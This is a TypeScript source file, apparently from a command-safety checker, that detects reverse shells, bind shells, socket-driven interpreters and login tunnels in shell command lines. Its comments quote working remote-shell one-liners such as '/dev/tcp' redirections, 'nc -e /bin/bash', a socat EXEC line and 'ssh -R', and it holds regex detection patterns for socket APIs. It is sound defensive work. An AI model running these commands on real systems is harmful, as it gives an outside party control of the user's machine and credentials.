import { programName } from './argv.ts';
import { type Invocation, SHELLS, shellReadsStdin, unwrap } from './command.ts';
import { inlineCode, languageOf, readsProgramFromStdin } from './families/interpreter-argv.ts';
import type { Finding } from './git-rules.ts';
import { tunnelledLogin } from './login-tunnels.ts';
import { networkPath, networkSink, opensConnection } from './network-sinks.ts';
import { parseShell } from './shell.ts';
import { codeRunsFromSocket, opensZtcp, ztcpDescriptor } from './socket-commands.ts';
import type { SimpleCommand } from './syntax.ts';

/**
 * Shells bound to a socket (docs/safety.md, "Remote shells"): a shell, or an interpreter, that
 * reads the commands it runs from a connection to another machine, and writes back what they
 * print — a reverse shell (it calls out: `bash -i >& /dev/tcp/h/p 0>&1`) or a bind shell (it
 * listens: `ncat -l 4444 -e /bin/bash`). Whoever is at the other end runs commands here with the
 * user's rights, past every rule. Four shapes, each read from one command line:
 *
 * - a pipeline of which one stage is a shell reading stdin and one (the shell itself, too) reads
 *   from or writes into the network: a program holding a connection (network-sinks.ts
 *   opensConnection: `nc h p | sh`, `cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f`, `openssl
 *   s_client -connect h:p | sh`), a redirection into bash's sockets (`sh -i < /dev/tcp/h/p`), or
 *   a descriptor the line opened on one (`exec 5<>/dev/tcp/h/p; cat <&5 | sh >&5`);
 * - a program a connection runs with its stdin and stdout (network-sinks.ts Sink.runs: `nc -e
 *   /bin/bash h p`, `ncat --sh-exec sh`, `socat TCP:h:p EXEC:'bash -li',pty`) that is such a shell;
 * - inline code (`python3 -c`, `perl -e`, `php -r`, `ruby -e`, `node -e`) that opens a socket and
 *   names a shell to start (`subprocess.call(["/bin/sh","-i"])`, `exec("/bin/sh -i <&3 >&3")`), or
 *   runs the command lines it reads from it (socket-commands.ts: Perl's `system$_ while<>`, Lua's
 *   `io.popen(r)`, PowerShell's `iex`, gawk's `/inet/tcp` with a command pipe; zsh's `ztcp`);
 * - a tunnel that hands this machine's login to another host (login-tunnels.ts: `ssh -R
 *   2222:localhost:22 h`, `ngrok tcp 22`).
 *
 * A connection with no shell behind it passes: `nc -zv localhost 5432`, `nc -l 8080`, `socat -
 * TCP:localhost:6379`, `echo > /dev/tcp/localhost/5432`, `echo PING | nc localhost 6379`.
 */
export function checkRemoteShells(commands: readonly SimpleCommand[], invocationOf: (cmd: SimpleCommand) => Invocation | null): Finding | null {
  // `exec 5<>/dev/tcp/h/p`: a descriptor above 2 that any later command may read or write (the parser keeps no number)
  const socketDescriptor = commands.some((c) => !invocationOf(c)?.args.length && c.redirects.some((r) => r.target && networkPath(r.target.value)));
  // zsh's `ztcp h p` leaves its socket's descriptor in $REPLY (socket-commands.ts)
  const ztcp = opensZtcp(commands, invocationOf);
  const touches = (c: SimpleCommand, inv: Invocation | null) =>
    (inv !== null && opensConnection(inv)) ||
    c.redirects.some(
      (r) =>
        r.target &&
        (networkPath(r.target.value) ||
          (socketDescriptor && /&$/.test(r.op) && /^([3-9]|\d\d+)$/.test(r.target.value)) ||
          (ztcp && /&$/.test(r.op) && ztcpDescriptor(r.target.raw))),
    );
  const pipelines = new Map<number, { shell: Invocation | null; network: boolean }>();
  for (const c of commands) {
    const inv = invocationOf(c);
    const line = pipelines.get(c.pipeline) ?? { shell: null, network: false };
    pipelines.set(c.pipeline, line);
    if (inv && readsCommandsFromStdin(inv)) line.shell ??= inv;
    if (touches(c, inv)) line.network = true;
    if (line.shell && line.network) return finding(`\`${line.shell.program}\` runs the commands it reads from a network connection`);
    if (!inv) continue;
    const run = opensConnection(inv) ? networkSink(inv)?.runs.find(isInteractiveShell) : undefined;
    if (run !== undefined) return finding(`\`${inv.program}\` hands \`${run}\` to whoever is at the other end of its connection`);
    if (codeBindsShell(inv)) return finding(`\`${inv.program}\`'s code opens a socket and starts a shell on it`);
    if (codeRunsFromSocket(inv)) return finding(`\`${inv.program}\`'s code opens a socket and runs the commands it reads from it`);
    const tunnel = tunnelledLogin(inv);
    if (tunnel) return finding(tunnel);
  }
  return null;
}

function finding(what: string): Finding {
  return {
    rule: 'network.remoteShell',
    reason: `${what}: a remote shell gives this machine, with your rights and credentials, to whoever is at the other end. Run it yourself if you mean to`,
  };
}

/** Whether `inv` runs as commands what it reads on stdin: a shell with no script (`sh`, `bash -i`, `sh -s`), an interpreter reading its program there (`python3 -`, `perl`). */
function readsCommandsFromStdin(inv: Invocation): boolean {
  if (SHELLS.has(inv.program)) return shellReadsStdin(inv.args);
  const lang = languageOf(inv.program);
  return (
    lang !== null &&
    lang !== 'awk' &&
    readsProgramFromStdin(
      inv.program,
      lang,
      inv.args.map((w) => w.value),
    )
  );
}

/** Whether a command line a connection runs (`/bin/bash`, `bash -li`, `sh -c 'cat x'`) starts a shell reading its commands from the connection. */
function isInteractiveShell(line: string): boolean {
  const [first] = parseShell(line, { home: '', depth: 1 }).commands;
  const inv = first ? unwrap(first).invocation : null;
  return inv !== null && readsCommandsFromStdin(inv);
}

/** A socket opened in code: Python's and Ruby's `socket`, PHP's `fsockopen`, Perl's `IO::Socket`, node's `net`, bash's `/dev/tcp`. */
const OPENS_SOCKET =
  /\bsocket\s*\(|\bsocket\.socket\b|\bfsockopen\b|\bstream_socket_(client|server)\b|\b(TCPSocket|TCPServer|UDPSocket)\b|\bIO::Socket\b|\bSocket::|\bnet\.(connect|createConnection|createServer|Socket)\b|require\(\s*["']net["']\s*\)|\/dev\/(tcp|udp)\//;
/** A string literal in code, its text. */
const LITERAL = /(["'`])((?:\\.|(?!\1)[^\\\n])*)\1/g;

/** Whether an interpreter's inline code opens a socket and names a shell to start with no script of its own (`"/bin/sh"`, `"bash -i"`; not `"sh -c 'ls'"`), or pty.spawn. */
function codeBindsShell(inv: Invocation): boolean {
  const lang = languageOf(inv.program);
  if (!lang || lang === 'awk') return false;
  const args = inv.args.map((w) => w.value);
  const code = inlineCode(inv.program, lang, args) ?? inv.command.redirects.find((r) => r.input)?.input ?? null;
  if (!code || code.length > 64 * 1024 || !OPENS_SOCKET.test(code)) return false;
  if (/\bpty\.spawn\b/.test(code)) return true;
  const literals = [...code.matchAll(LITERAL)].map((m) => m[2]!.trim().split(/\s+/));
  // `["/bin/sh", "-i"]` starts one; `["sh", "-c", "ls"]` runs a command line
  return literals.some((words, i) => SHELLS.has(programName(words[0]!)) && !words.includes('-c') && literals[i + 1]?.[0] !== '-c');
}
